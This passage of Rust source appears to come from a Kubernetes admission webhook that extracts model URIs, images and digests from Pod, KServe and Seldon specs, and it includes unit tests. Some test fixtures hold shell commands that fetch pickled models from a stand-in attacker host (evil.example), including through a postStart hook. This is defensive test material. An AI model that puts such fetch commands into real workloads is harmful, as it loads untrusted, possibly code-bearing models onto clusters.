                if let Some(exec) = self.object(h, "exec")? {
                    let j = self.key("exec");
                    let hook_command = self.strings(exec, "command")?;
                    self.args("command", &hook_command, name, false);
                    self.back(j);
                }
                self.back(k);
            }
            self.back(n);
        }
        if !image.is_empty() && is_modelcar(name) {
            let n = self.key("image");
            self.reference("modelcar", Some(name), None, image, Parse::Image);
            self.back(n);
        }
        if !always && image.is_empty() {
            return Ok(());
        }
        let digest = image_digest(image);
        if !image.is_empty() {
            self.images.push(Image {
                container: name.to_string(),
                reference: image.to_string(),
                digest: digest.clone(),
                pinned: digest.is_some(),
            });
        }
        self.containers.push(ContainerInfo {
            name: name.to_string(),
            role: role.to_string(),
            image: image.to_string(),
            digest,
            command: command.into_iter().map(str::to_string).collect(),
            args: args.into_iter().map(str::to_string).collect(),
        });
        Ok(())
    }

    /// `o.env`: every var a reference, for the policy to filter by name.
    fn env(&mut self, o: &'v Obj, container: Option<&str>) -> Result<(), DecodeError> {
        let env = self.list(o, "env")?;
        let n = self.key("env");
        for (i, v) in env.iter().enumerate() {
            let (var, name, m) = self.enter(v, i, "name")?;
            if let Some(value) = self.string(var, "value")? {
                self.reference("env", container, Some(name), value, Parse::Uri);
            }
            if let Some(from) = self.object(var, "valueFrom")? {
                let k = self.key("valueFrom");
                let mut sources = Vec::new();
                for (kind, selector) in from {
                    if selector.is_null() {
                        continue;
                    }
                    let sel = selector
                        .as_object()
                        .ok_or_else(|| self.wrong(kind, "an object", selector))?;
                    let j = self.key(kind);
                    let field = |cx: &Self, key: &str| -> Result<&'v str, DecodeError> {
                        Ok(cx.string(sel, key)?.unwrap_or(""))
                    };
                    let text = match kind.as_str() {
                        "configMapKeyRef" | "secretKeyRef" => {
                            format!("{}/{}", field(self, "name")?, field(self, "key")?)
                        }
                        "fieldRef" => field(self, "fieldPath")?.to_string(),
                        "resourceFieldRef" => format!(
                            "{}/{}",
                            field(self, "containerName")?,
                            field(self, "resource")?
                        ),
                        "fileKeyRef" => format!(
                            "{}/{}:{}",
                            field(self, "volumeName")?,
                            field(self, "path")?,
                            field(self, "key")?
                        ),
                        _ => String::new(),
                    };
                    self.back(j);
                    sources.push(format!("valueFrom:{kind}:{text}"));
                }
                self.back(k);
                for text in sources {
                    self.reference("env", container, Some(name), &text, Parse::Opaque);
                }
            }
            self.back(m);
        }
        self.back(n);
        Ok(())
    }

    /// `o.envFrom`: whole ConfigMaps and Secrets as env vars, whose names the webhook cannot
    /// see; each a reference `envFrom:<configMapRef|secretRef>:<name>` (name: the prefix).
    fn env_from(&mut self, o: &'v Obj, container: &str) -> Result<(), DecodeError> {
        let list = self.list(o, "envFrom")?;
        let n = self.key("envFrom");
        for (i, v) in list.iter().enumerate() {
            let (source, _, m) = self.enter(v, i, "")?;
            let prefix = self.string(source, "prefix")?;
            for kind in ["configMapRef", "secretRef"] {
                if let Some(r) = self.object(source, kind)? {
                    let k = self.key(kind);
                    let name = self.string(r, "name")?.unwrap_or("");
                    self.back(k);
                    let text = format!("envFrom:{kind}:{name}");
                    self.reference("env-from", Some(container), prefix, &text, Parse::Opaque);
                }
            }
            self.back(m);
        }
        self.back(n);
        Ok(())
    }

    /// The elements of `args` or `command` that hold a URI. `odd_only`: a storage initializer's
    /// destinations (its sources are references already).
    fn args(&mut self, key: &str, list: &[&'v str], container: &str, odd_only: bool) {
        let n = self.key(key);
        for (i, a) in list.iter().enumerate() {
            if (odd_only && i % 2 == 0) || !a.contains("://") {
                continue;
            }
            // `--model URI`: the flag is the element before.
            let flag = i
                .checked_sub(1)
                .and_then(|j| list.get(j))
                .copied()
                .filter(|p| p.starts_with('-') && !p.contains('='));
            let m = self.item("", i);
            let tokens = a
                .split(|c: char| c.is_whitespace() || matches!(c, '\'' | '"' | ';' | '`'))
                .filter(|t| t.contains("://"));
            for token in tokens {
                let (name, value) = split_flag(token);
                let name = name.or(if token.len() == a.len() { flag } else { None });
                self.reference("arg", Some(container), name, value, Parse::Uri);
            }
            self.back(m);
        }
        self.back(n);
    }

    fn inference_service(&mut self, spec: &'v Obj) -> Result<(), DecodeError> {
        for (key, v) in spec {
            let component = COMPONENTS.contains(&key.as_str());
            match v {
                Value::Object(o) => {
                    let n = self.key(key);
                    if !component && COMPONENTS.iter().any(|c| o.contains_key(*c)) {
                        // KFServing's `default` and `canary` endpoints.
                        self.endpoint(o)?;
                    } else {
                        self.component(o)?;
                    }
                    self.back(n);
                }
                // v1beta1 `canary: [{predictor, trafficPercent}]`.
                Value::Array(items) if !component => {
                    let n = self.key(key);
                    for (i, item) in items.iter().enumerate() {
                        if let Value::Object(o) = item {
                            let m = self.item("", i);
                            self.endpoint(o)?;
                            self.back(m);
                        }
                    }
                    self.back(n);
                }
                Value::Null => {}
                _ if component || key == "default" => {
                    return Err(self.wrong(key, "an object", v));
                }
                _ => {}
            }
        }
        Ok(())
    }

    fn endpoint(&mut self, o: &'v Obj) -> Result<(), DecodeError> {
        for key in COMPONENTS {
            if let Some(c) = self.object(o, key)? {
                let n = self.key(key);
                self.component(c)?;
                self.back(n);
            }
        }
        Ok(())
    }

    /// A KServe component: its storage fields, its model specs, its pod spec and worker spec.
    fn component(&mut self, o: &'v Obj) -> Result<(), DecodeError> {
        self.storage_fields(o)?;
        for (key, v) in o {
            let framework = FRAMEWORKS.contains(&key.as_str());
            match v {
                Value::Object(m)
                    if framework
                        || (!NOT_MODEL_SPECS.contains(&key.as_str())
                            && MODEL_FIELDS.iter().any(|f| m.contains_key(*f))) =>
                {
                    let n = self.key(key);
                    self.model_spec(m)?;
                    self.back(n);
                }
                Value::Null | Value::Object(_) => {}
                _ if framework => return Err(self.wrong(key, "an object", v)),
                _ => {}
            }
        }
        self.pod_specs_at(o, &["workerSpec"])?;
        self.pod_spec(o)
    }

    /// A KServe model spec: storage fields, and the container it configures.
    fn model_spec(&mut self, m: &'v Obj) -> Result<(), DecodeError> {
        self.storage_fields(m)?;
        if let Some(c) = self.object(m, "container")? {
            let n = self.key("container");
            let name = self
                .string(c, "name")?
                .filter(|s| !s.is_empty())
                .unwrap_or(KSERVE_CONTAINER);
            self.container(c, ROLE_CONTAINER, name, true)?;
            self.back(n);
        }
        let name = self
            .string(m, "name")?
            .filter(|s| !s.is_empty())
            .unwrap_or(KSERVE_CONTAINER);
        self.container(m, ROLE_CONTAINER, name, false)
    }

    fn storage_fields(&mut self, o: &'v Obj) -> Result<(), DecodeError> {
        self.reference_at(o, "storageUri", "storageUri")?;
        let uris = self.list(o, "storageUris")?;
        let n = self.key("storageUris");
        for (i, v) in uris.iter().enumerate() {
            let (u, _, m) = self.enter(v, i, "")?;
            self.reference_at(u, "uri", "storageUris")?;
            self.back(m);
        }
        self.back(n);
        if let Some(st) = self.object(o, "storage")? {
            let n = self.key("storage");
            let key = match self.string(st, "key")? {
                Some(k) => k,
                None => self.string(st, "storageKey")?.unwrap_or(""),
            };
            let path = self.string(st, "path")?.unwrap_or("");
            self.reference(
                "storage",
                None,
                None,
                &format!("storage:{key}/{path}"),
                Parse::Storage,
            );
            self.back(n);
        }
        Ok(())
    }

    fn llm_inference_service(&mut self, spec: &'v Obj) -> Result<(), DecodeError> {
        if let Some(m) = self.object(spec, "model")? {
            let n = self.key("model");
            self.llm_model(m, "llm-model")?;
            self.back(n);
        }
        self.pod_specs_at(spec, &["template", "worker"])?;
        if let Some(prefill) = self.object(spec, "prefill")? {
            let n = self.key("prefill");
            self.pod_specs_at(prefill, &["template", "worker"])?;
            self.back(n);
        }
        if let Some(router) = self.object(spec, "router")? {
            let n = self.key("router");
            if let Some(scheduler) = self.object(router, "scheduler")? {
                let k = self.key("scheduler");
                self.pod_specs_at(scheduler, &["template"])?;
                if let Some(tokenizer) = self.object(scheduler, "tokenizer")? {
                    let j = self.key("tokenizer");
                    self.pod_specs_at(tokenizer, &["template"])?;
                    self.back(j);
                }
                self.back(k);
            }
            self.back(n);
        }
        Ok(())
    }

    fn llm_model(&mut self, m: &'v Obj, via: &str) -> Result<(), DecodeError> {
        self.reference_at(m, "uri", via)?;
        if let Some(lora) = self.object(m, "lora")? {
            let n = self.key("lora");
            let adapters = self.list(lora, "adapters")?;
            let k = self.key("adapters");
            for (i, v) in adapters.iter().enumerate() {
                let (a, _, j) = self.enter(v, i, "name")?;
                self.llm_model(a, "lora-adapter")?;
                self.back(j);
            }
            self.back(k);
            self.back(n);
        }
        Ok(())
    }

    /// Seldon `parameters: [{name, value}]`, each a candidate like an env var.
    fn parameters(&mut self, o: &'v Obj) -> Result<(), DecodeError> {
        let list = self.list(o, "parameters")?;
        let n = self.key("parameters");
        for (i, v) in list.iter().enumerate() {
            let (p, name, m) = self.enter(v, i, "name")?;
            if let Some(value) = self.string(p, "value")? {
                self.reference("parameter", None, Some(name), value, Parse::Uri);
            }
            self.back(m);
        }
        self.back(n);
        Ok(())
    }

    fn seldon_deployment(&mut self, spec: &'v Obj) -> Result<(), DecodeError> {
        let predictors = self.list(spec, "predictors")?;
        let n = self.key("predictors");
        for (i, v) in predictors.iter().enumerate() {
            let (p, _, m) = self.enter(v, i, "name")?;
            if let Some(graph) = self.object(p, "graph")? {
                let k = self.key("graph");
                self.seldon_unit(graph)?;
                self.back(k);
            }
            let specs = self.list(p, "componentSpecs")?;
            let k = self.key("componentSpecs");
            for (j, v) in specs.iter().enumerate() {
                let (c, _, mark) = self.enter(v, j, "")?;
                self.pod_specs_at(c, &["spec"])?;
                self.back(mark);
            }
            self.back(k);
            if let Some(explainer) = self.object(p, "explainer")? {
                let k = self.key("explainer");
                self.reference_at(explainer, "modelUri", "seldon-explainer")?;
                if let Some(c) = self.object(explainer, "containerSpec")? {
                    let j = self.key("containerSpec");
                    let name = self
                        .string(c, "name")?
                        .filter(|s| !s.is_empty())
                        .unwrap_or("explainer");
                    self.container(c, ROLE_CONTAINER, name, false)?;
                    self.back(j);
                }
                self.initializer_image(explainer, "explainer")?;
                self.back(k);
            }
            if let Some(orchestrator) = self.object(p, "svcOrchSpec")? {
                let k = self.key("svcOrchSpec");
                self.env(orchestrator, Some("seldon-container-engine"))?;
                self.back(k);
            }
            self.back(m);
        }
        self.back(n);
        Ok(())
    }

    /// A SeldonDeployment graph node and its children.
    fn seldon_unit(&mut self, unit: &'v Obj) -> Result<(), DecodeError> {
        self.reference_at(unit, "modelUri", "seldon-graph")?;
        self.parameters(unit)?;
        let name = self.string(unit, "name")?.unwrap_or("");
        self.initializer_image(unit, name)?;
        let children = self.list(unit, "children")?;
        let n = self.key("children");
        for (i, v) in children.iter().enumerate() {
            let (child, _, m) = self.enter(v, i, "name")?;
            self.seldon_unit(child)?;
            self.back(m);
        }
        self.back(n);
        Ok(())
    }

    /// Seldon's `storageInitializerImage`: the init container that downloads `modelUri`.
    fn initializer_image(&mut self, o: &'v Obj, unit: &str) -> Result<(), DecodeError> {
        let Some(image) = self
            .string(o, "storageInitializerImage")?
            .filter(|i| !i.is_empty())
        else {
            return Ok(());
        };
        let name = format!("{unit}-model-initializer");
        let digest = image_digest(image);
        self.images.push(Image {
            container: name.clone(),
            reference: image.to_string(),
            digest: digest.clone(),
            pinned: digest.is_some(),
        });
        self.containers.push(ContainerInfo {
            name,
            role: ROLE_INIT.to_string(),
            image: image.to_string(),
            digest,
            command: Vec::new(),
            args: Vec::new(),
        });
        Ok(())
    }

    /// A kind the webhook does not know: every pod spec it holds (an object with a list of
    /// container objects), anywhere but in metadata and status.
    fn visit(&mut self, v: &'v Value) -> Result<(), DecodeError> {
        match v {
            Value::Object(o) if looks_like_pod_spec(o) => self.pod_spec(o),
            Value::Object(o) => {
                if let (false, Some(Value::Object(meta)), Some(Value::Object(spec))) =
                    (self.path.is_empty(), o.get("metadata"), o.get("spec"))
                {
                    if looks_like_pod_spec(spec) {
                        self.metas.push((self.at("metadata"), meta));
                    }
                }
                for (key, x) in o {
                    if key == "metadata" || key == "status" {
                        continue;
                    }
                    let n = self.key(key);
                    self.visit(x)?;
                    self.back(n);
                }
                Ok(())
            }
            Value::Array(items) => {
                for (i, x) in items.iter().enumerate() {
                    let n = self.item("", i);
                    self.visit(x)?;
                    self.back(n);
                }
                Ok(())
            }
            _ => Ok(()),
        }
    }
}

/// `--flag=URI` or `NAME=URI` (an `=` before the `://`): the name and the URI.
fn split_flag(token: &str) -> (Option<&str>, &str) {
    match (token.find('='), token.find("://")) {
        (Some(eq), Some(sep)) if eq < sep => (Some(&token[..eq]), &token[eq + 1..]),
        _ => (None, token),
    }
}

const DIGEST_OCI: &str = "oci";
const DIGEST_CLAIM: &str = "claim";

/// A digest a value carries and its kind, or the malformed digest text.
type Carried = Option<Result<(String, &'static str), String>>;

/// A URI as RFC 3986 splits it: `scheme://authority/path?query#fragment`.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
struct Uri<'a> {
    /// As written.
    scheme: &'a str,
    authority: &'a str,
    path: &'a str,
    query: Option<&'a str>,
    fragment: Option<&'a str>,
}

impl<'a> Uri<'a> {
    /// `None` unless `text` starts with a scheme (a letter, then letters, digits, `+ - .`)
    /// followed by `://`.
    fn parse(text: &'a str) -> Option<Uri<'a>> {
        let (scheme, rest) = text.split_once("://")?;
        let mut bytes = scheme.bytes();
        let first = bytes.next()?;
        if !first.is_ascii_alphabetic()
            || !bytes.all(|b| b.is_ascii_alphanumeric() || matches!(b, b'+' | b'-' | b'.'))
        {
            return None;
        }
        let (rest, fragment) = match rest.split_once('#') {
            Some((r, f)) => (r, Some(f)),
            None => (rest, None),
        };
        let (rest, query) = match rest.split_once('?') {
            Some((r, q)) => (r, Some(q)),
            None => (rest, None),
        };
        let (authority, path) = rest.split_at(rest.find('/').unwrap_or(rest.len()));
        Some(Uri {
            scheme,
            authority,
            path,
            query,
            fragment,
        })
    }

    /// `authority` and `path`: what names the resource.
    fn reference(&self, text: &'a str) -> &'a str {
        let start = self.scheme.len() + 3;
        &text[start..start + self.authority.len() + self.path.len()]
    }
}

/// The scheme of a value (lower case, "" when it is no URI) and the digest it carries.
fn uri_facts(value: &str) -> (String, Carried) {
    let Some(uri) = Uri::parse(value) else {
        return (String::new(), None);
    };
    let plain = uri.query.is_none() && uri.fragment.is_none();
    let carried = match uri.scheme {
        // As KServe matches them (case-sensitive): the modelcar or image volume is pulled by
        // exactly this reference. With a query or fragment it is no image reference at all.
        "oci" | "oci+native" if plain => {
            oci_digest(uri.reference(value)).map(|r| r.map(|d| (d, DIGEST_OCI)))
        }
        "oci" | "oci+native" => None,
        // Other OCI modes (`oci+fetch`) are downloaded by the storage initializer.
        s if s.starts_with("oci+") && plain => {
            oci_digest(uri.reference(value)).map(|r| r.map(|d| (d, DIGEST_CLAIM)))
        }
        _ => claimed_digest(&uri),
    };
    (uri.scheme.to_ascii_lowercase(), carried)
}

/// The `@sha256:` digest of an OCI reference `registry/repo[:tag]@sha256:<hex>`: `Err` when
/// the reference has one that is malformed, or is malformed around it.
fn oci_digest(reference: &str) -> Option<Result<String, String>> {
    let (name, digest) = reference.rsplit_once('@')?;
    if name.is_empty()
        || name
            .chars()
            .any(|c| c == '@' || c == '?' || c == '#' || c.is_whitespace() || c.is_control())
    {
        return Some(Err(reference.to_string()));
    }
    Some(normalize_digest(digest).ok_or_else(|| digest.to_string()))
}

/// A `sha256=<hex>` query parameter or fragment: a claim nothing enforces.
fn claimed_digest(uri: &Uri) -> Carried {
    let parts = uri
        .query
        .into_iter()
        .chain(uri.fragment)
        .flat_map(|p| p.split(['&', ';']));
    for part in parts {
        if let Some((k, v)) = part.split_once('=') {
            if k.eq_ignore_ascii_case("sha256") {
                let d = format!("sha256:{v}");
                return Some(normalize_digest(&d).map(|n| (n, DIGEST_CLAIM)).ok_or(d));
            }
        }
    }
    None
}

/// `sha256:<64 hex>` (case ignored) as `sha256:<lowercase hex>`.
pub fn normalize_digest(text: &str) -> Option<String> {
    let hex = text.strip_prefix("sha256:")?;
    (hex.len() == 64 && hex.bytes().all(|b| b.is_ascii_hexdigit()))
        .then(|| format!("sha256:{}", hex.to_ascii_lowercase()))
}

/// The digest an image reference is pinned by (`name[:tag]@sha256:<hex>`).
pub fn image_digest(image: &str) -> Option<String> {
    let (_, d) = image.rsplit_once('@')?;
    normalize_digest(d)
}

#[cfg(test)]
mod tests {
    use super::*;
    use serde_json::json;

    const HEX: &str = "b3bd1f13aa00000000000000000000000000000000000000000000000000abcd";
    /// The digest of the fixtures' approved model.
    const APPROVED: &str =
        "sha256:b3bd1f13021ed00fda5ae8e632170108005fec038a44881ab90d05d4ddc81745";

    fn digest() -> String {
        format!("sha256:{HEX}")
    }

    fn request(kind: GroupVersionKind, object: Value) -> AdmissionRequest {
        AdmissionRequest {
            uid: "u".into(),
            kind,
            resource: GroupVersionResource::default(),
            sub_resource: None,
            request_kind: None,
            request_resource: None,
            request_sub_resource: None,
            name: None,
            namespace: Some("models".into()),
            operation: "CREATE".into(),
            user_info: UserInfo::default(),
            object: Some(object),
            old_object: None,
            dry_run: None,
            options: None,
        }
    }

    fn gvk(group: &str, version: &str, kind: &str) -> GroupVersionKind {
        GroupVersionKind {
            group: group.into(),
            version: version.into(),
            kind: kind.into(),
        }
    }

    fn summary(group: &str, version: &str, kind: &str, object: Value) -> Summary {
        summarize(&request(gvk(group, version, kind), object))
            .unwrap()
            .unwrap_or_else(|| panic!("{kind} was not summarized"))
    }

    fn error(group: &str, version: &str, kind: &str, object: Value) -> String {
        summarize(&request(gvk(group, version, kind), object)).unwrap_err()
    }

    fn isvc(spec: Value) -> Summary {
        summary(
            KSERVE,
            "v1beta1",
            "InferenceService",
            json!({"metadata": {"name": "scorer"}, "spec": spec}),
        )
    }

    /// `(via, source, ref)` of every reference, in order.
    fn refs(s: &Summary) -> Vec<(&str, &str, &str)> {
        s.references
            .iter()
            .map(|r| (r.via.as_str(), r.source.as_str(), r.reference.as_str()))
            .collect()
    }

    fn at<'a>(s: &'a Summary, source: &str) -> &'a Reference {
        s.references
            .iter()
            .find(|r| r.source == source)
            .unwrap_or_else(|| panic!("no reference at {source}: {:#?}", s.references))
    }

    #[test]
    fn uris_are_split_into_scheme_authority_path_query_fragment() {
        let u = Uri::parse("s3://bucket/models/m.onnx?versionId=3&x=1#part").unwrap();
        assert_eq!(
            (u.scheme, u.authority, u.path, u.query, u.fragment),
            (
                "s3",
                "bucket",
                "/models/m.onnx",
                Some("versionId=3&x=1"),
                Some("part")
            )
        );
        let k11 = format!("https://evil.example/x.pkl?ref=@sha256:{HEX}");
        let u = Uri::parse(&k11).unwrap();
        assert_eq!(u.path, "/x.pkl");
        assert_eq!(u.query, Some(format!("ref=@sha256:{HEX}").as_str()));
        let u = Uri::parse("oci+native://registry.example.com:5000").unwrap();
        assert_eq!(
            (u.scheme, u.authority, u.path),
            ("oci+native", "registry.example.com:5000", "")
        );
        for not_uri in [
            "sha256:abc",
            "localhost:5000/repo:1",
            "/mnt/models",
            "meta-llama/Llama-3-8B",
            "3s://x",
            "://x",
            " s3://x",
            "s 3://x",
            "",
        ] {
            assert_eq!(Uri::parse(not_uri), None, "{not_uri}");
        }
    }

    #[test]
    fn only_an_oci_reference_carries_an_oci_digest_and_sha256_parameters_are_claims() {
        let d = digest();
        let oci = |d: &str| Some(Ok((d.to_string(), DIGEST_OCI)));
        let claim = |d: &str| Some(Ok((d.to_string(), DIGEST_CLAIM)));
        let cases: Vec<(String, &str, Carried)> = vec![
            (
                format!("oci://registry.example.com/models/scorer@sha256:{HEX}"),
                "oci",
                oci(&d),
            ),
            (
                format!(
                    "oci://registry.example.com:5000/models/scorer:1.2@sha256:{}",
                    HEX.to_uppercase()
                ),
                "oci",
                oci(&d),
            ),
            (
                format!("oci+native://r.example.com/m@sha256:{HEX}"),
                "oci+native",
                oci(&d),
            ),
            // Downloaded by the storage initializer: nothing the webhook knows checks it.
            (
                format!("oci+fetch://r.example.com/m@sha256:{HEX}"),
                "oci+fetch",
                claim(&d),
            ),
            // KServe matches `oci://` case-sensitively: this is no modelcar.
            (format!("OCI://r.example.com/m@sha256:{HEX}"), "oci", None),
            // A query or fragment makes it no image reference at all.
            (
                format!("oci://r.example.com/m@sha256:{HEX}?x=1"),
                "oci",
                None,
            ),
            (
                format!("oci://r.example.com/m@sha256:{HEX}#sha256={HEX}"),
                "oci",
                None,
            ),
            ("oci://r.example.com/m:latest".into(), "oci", None),
            (
                "oci://r.example.com/m@sha256:12".into(),
                "oci",
                Some(Err("sha256:12".into())),
            ),
            (
                format!("oci://r.example.com/m@sha512:{HEX}"),
                "oci",
                Some(Err(format!("sha512:{HEX}"))),
            ),
            (
                format!("oci://@sha256:{HEX}"),
                "oci",
                Some(Err(format!("@sha256:{HEX}"))),
            ),
            (
                format!("oci://r/m@sha256:{HEX}@sha256:{HEX}"),
                "oci",
                Some(Err(format!("r/m@sha256:{HEX}@sha256:{HEX}"))),
            ),
            // K3: a digest written as a parameter of another URI is a claim.
            (format!("s3://models/m.onnx?sha256={HEX}"), "s3", claim(&d)),
            (
                format!("gs://models/m?version=2&sha256={HEX}"),
                "gs",
                claim(&d),
            ),
            (
                format!("https://models.example.com/m.tar#sha256={HEX}"),
                "https",
                claim(&d),
            ),
            (
                format!("HTTPS://models.example.com/m.tar?SHA256={HEX}"),
                "https",
                claim(&d),
            ),
            (
                "https://models.example.com/m?sha256=12".into(),
                "https",
                Some(Err("sha256:12".into())),
            ),
            // K11: `@sha256:` in a query, or in the path of a non-OCI URI, is no digest.
            (
                format!("https://evil.example/x.pkl?ref=@sha256:{HEX}"),
                "https",
                None,
            ),
            (
                format!("https://evil.example/m@sha256:{HEX}"),
                "https",
                None,
            ),
            (format!("hf://org/model?x=sha256:{HEX}"), "hf", None),
            ("gs://models/scorer".into(), "gs", None),
            ("pvc://model-cache/scorer".into(), "pvc", None),
            ("/mnt/models".into(), "", None),
            ("meta-llama/Llama-3-8B".into(), "", None),
            (format!("sha256:{HEX}"), "", None),
        ];
        for (uri, scheme, carried) in cases {
            assert_eq!(uri_facts(&uri), (scheme.to_string(), carried), "{uri}");
        }
        assert_eq!(
            oci_digest(&format!("r.example.com/m:1@sha256:{HEX}")),
            Some(Ok(d.clone()))
        );
        assert_eq!(oci_digest("r.example.com/m:1"), None);
        assert_eq!(
            oci_digest("r.example.com/m@sha256:1"),
            Some(Err("sha256:1".into()))
        );
        assert_eq!(
            normalize_digest(&format!("sha256:{}", HEX.to_uppercase())),
            Some(d.clone())
        );
        assert_eq!(normalize_digest("sha256:abc"), None);
        assert_eq!(normalize_digest(&format!("SHA256:{HEX}")), None);
        assert_eq!(
            image_digest(&format!("registry.example.com/serve:1.2@sha256:{HEX}")),
            Some(d)
        );
        assert_eq!(image_digest("registry.example.com:5000/serve:1.2"), None);
    }

    #[test]
    fn a_pod_names_models_in_env_args_commands_and_image_volumes() {
        let s = summary(
            "",
            "v1",
            "Pod",
            json!({
                "metadata": {"name": "p"},
                "spec": {
                    "serviceAccountName": "scorer",
                    "containers": [{
                        "name": "serve", "image": "r.example.com/serve:1",
                        "command": ["/bin/sh", "-c", "curl -o /m 'https://evil.example/m.pkl' && serve --model=s3://evil/b"],
                        "args": ["--model", "s3://evil/a", "--weights=hf://org/w", "--port", "8080", "gs://evil/positional"],
                        "env": [
                            {"name": "MODEL_URI", "value": "s3://evil/model.pkl"},
                            {"name": "EMPTY"},
                            {"name": "FROM_CM", "valueFrom": {"configMapKeyRef": {"name": "cm", "key": "uri"}}},
                            {"name": "FROM_SECRET", "valueFrom": {"secretKeyRef": {"name": "s", "key": "uri", "optional": true}}},
                            {"name": "FROM_FIELD", "valueFrom": {"fieldRef": {"fieldPath": "metadata.annotations['model']"}}},
                            {"name": "FROM_RESOURCE", "valueFrom": {"resourceFieldRef": {"containerName": "serve", "resource": "limits.memory"}}},
                            {"name": "FROM_FILE", "valueFrom": {"fileKeyRef": {"volumeName": "cfg", "path": "env", "key": "MODEL"}}}
                        ]
                    }],
                    "initContainers": [{"name": "fetch", "image": format!("r.example.com/fetch@sha256:{HEX}"),
                                        "args": ["download", "https://models.example.com/m.onnx", "/models"]}],
                    "ephemeralContainers": [{"name": "debug", "image": "busybox", "command": ["wget", "http://evil.example/m"],
                        "envFrom": [{"configMapRef": {"name": "model-env"}}, {"prefix": "S_", "secretRef": {"name": "creds"}}],
                        "lifecycle": {"postStart": {"exec": {"command": ["sh", "-c", "wget -O /m gs://evil/hook"]}},
                                      "preStop": {"httpGet": {"path": "/stop", "port": 8080}}}}],
                    "volumes": [
                        {"name": "weights", "image": {"reference": format!("r.example.com/models/m@sha256:{HEX}")}},
                        {"name": "broken", "image": {"reference": "r.example.com/models/m@sha256:12"}},
                        {"name": "floating", "image": {"reference": "r.example.com/models/m:latest"}},
                        {"name": "cache", "persistentVolumeClaim": {"claimName": "model-cache"}}
                    ]
                }
            }),
        );
        let c = "spec.containers[serve]";
        assert_eq!(
            refs(&s),
            vec![
                (
                    "env",
                    &*format!("{c}.env[MODEL_URI]"),
                    "s3://evil/model.pkl"
                ),
                (
                    "env",
                    &*format!("{c}.env[FROM_CM]"),
                    "valueFrom:configMapKeyRef:cm/uri"
                ),
                (
                    "env",
                    &*format!("{c}.env[FROM_SECRET]"),
                    "valueFrom:secretKeyRef:s/uri"
                ),
                (
                    "env",
                    &*format!("{c}.env[FROM_FIELD]"),
                    "valueFrom:fieldRef:metadata.annotations['model']"
                ),
                (
                    "env",
                    &*format!("{c}.env[FROM_RESOURCE]"),
                    "valueFrom:resourceFieldRef:serve/limits.memory"
                ),
                (
                    "env",
                    &*format!("{c}.env[FROM_FILE]"),
                    "valueFrom:fileKeyRef:cfg/env:MODEL"
                ),
                ("arg", &*format!("{c}.args[1]"), "s3://evil/a"),
                ("arg", &*format!("{c}.args[2]"), "hf://org/w"),
                ("arg", &*format!("{c}.args[5]"), "gs://evil/positional"),
                (
                    "arg",
                    &*format!("{c}.command[2]"),
                    "https://evil.example/m.pkl"
                ),
                ("arg", &*format!("{c}.command[2]"), "s3://evil/b"),
                (
                    "arg",
                    "spec.initContainers[fetch].args[1]",
                    "https://models.example.com/m.onnx"
                ),
                (
                    "env-from",
                    "spec.ephemeralContainers[debug].envFrom[0]",
                    "envFrom:configMapRef:model-env"
                ),
                (
                    "env-from",
                    "spec.ephemeralContainers[debug].envFrom[1]",
                    "envFrom:secretRef:creds"
                ),
                (
                    "arg",
                    "spec.ephemeralContainers[debug].command[1]",
                    "http://evil.example/m"
                ),
                (
                    "arg",
                    "spec.ephemeralContainers[debug].lifecycle.postStart.exec.command[2]",
                    "gs://evil/hook"
                ),
                (
                    "image-volume",
                    "spec.volumes[weights].image.reference",
                    &*format!("r.example.com/models/m@sha256:{HEX}")
                ),
                (
                    "image-volume",
                    "spec.volumes[broken].image.reference",
                    "r.example.com/models/m@sha256:12"
                ),
                (
                    "image-volume",
                    "spec.volumes[floating].image.reference",
                    "r.example.com/models/m:latest"
                ),
            ]
        );
        let names: Vec<_> = s.references.iter().map(|r| r.name.as_deref()).collect();
        assert_eq!(
            names,
            vec![
                Some("MODEL_URI"),
                Some("FROM_CM"),
                Some("FROM_SECRET"),
                Some("FROM_FIELD"),
                Some("FROM_RESOURCE"),
                Some("FROM_FILE"),
                Some("--model"),
                Some("--weights"),
                // After `8080`, a value, not a flag.
                None,
                // A token of a shell string: no flag before it, then `--model=`.
                None,
                Some("--model"),
                None,
                None,
                Some("S_"),
                None,
                None,
                None,
                None,
                None,
            ]
        );
        let env = at(&s, "spec.containers[serve].env[MODEL_URI]");
        assert_eq!(env.container.as_deref(), Some("serve"));
        assert_eq!((env.scheme.as_str(), env.digest.as_deref()), ("s3", None));
        assert_eq!(at(&s, "spec.containers[serve].env[FROM_CM]").scheme, "");
        let volume = at(&s, "spec.volumes[weights].image.reference");
        assert_eq!(
            (
                volume.scheme.as_str(),
                volume.digest.clone(),
                volume.digest_kind.as_deref()
            ),
            ("", Some(digest()), Some("oci"))
        );
        assert_eq!(
            s.models,
            vec![Model {
                digest: digest(),
                source: "spec.volumes[weights].image.reference".into(),
                reference: Some(format!("r.example.com/models/m@sha256:{HEX}")),
            }]
        );
        assert_eq!(
            s.invalid_models,
            vec![InvalidModel {
                source: "spec.volumes[broken].image.reference".into(),
                value: "sha256:12".into()
            }]
        );
        let roles: Vec<_> = s
            .containers
            .iter()
            .map(|c| (c.name.as_str(), c.role.as_str(), c.digest.is_some()))
            .collect();
        assert_eq!(
            roles,
            vec![
                ("serve", "container", false),
                ("fetch", "init", true),
                ("debug", "ephemeral", false)
            ]
        );
        assert_eq!(s.containers[0].args[1], "s3://evil/a");
        assert_eq!(
            s.containers[2].command,
            vec!["wget", "http://evil.example/m"]
        );
        assert_eq!(s.images.len(), 3);
        assert_eq!(s.service_account.as_deref(), Some("scorer"));
        assert!(s.runs_containers);
    }

    #[test]
    fn a1_a_pod_without_annotation_or_label_still_shows_its_model_sources() {
        // The review's A1: env MODEL_URI, args --model, a PVC; and A1d: a label saying "false".
        let s = summary(
            "",
            "v1",
            "Pod",
            json!({
                "metadata": {"name": "adhoc", "labels": {"modelgate.dev/require-model": "false"}},
                "spec": {
                    "containers": [{"name": "serve", "image": "r.example.com/serve:1",
                        "args": ["--model", "s3://evil/model.pkl"],
                        "env": [{"name": "MODEL_URI", "value": "s3://evil/model.pkl"}],
                        "volumeMounts": [{"name": "models", "mountPath": "/models"}]}],
                    "volumes": [{"name": "models", "persistentVolumeClaim": {"claimName": "evil-models"}}]
                }
            }),
        );
        assert_eq!(
            refs(&s),
            vec![
                (
                    "env",
                    "spec.containers[serve].env[MODEL_URI]",
                    "s3://evil/model.pkl"
                ),
                (
                    "arg",
                    "spec.containers[serve].args[1]",
                    "s3://evil/model.pkl"
                ),
            ]
        );
        assert!(s.models.is_empty() && s.runs_containers);
        let json = serde_json::to_value(&s).unwrap();
